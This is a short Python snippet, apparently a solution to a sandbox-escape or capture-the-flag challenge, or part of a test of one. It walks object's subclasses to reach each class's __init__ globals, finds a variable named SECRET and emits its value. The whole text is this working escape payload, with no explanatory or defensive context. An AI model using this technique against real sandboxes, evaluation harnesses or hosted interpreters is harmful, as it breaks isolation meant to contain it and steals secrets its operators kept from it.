at_step()
classes = ().__class__.__base__.__subclasses__()  # step
found = [c.__init__.__globals__ for c in classes if "__globals__" in dir(c.__init__) and "SECRET" in c.__init__.__globals__]  # step
past_step()
emit(found[0]["SECRET"])  # step
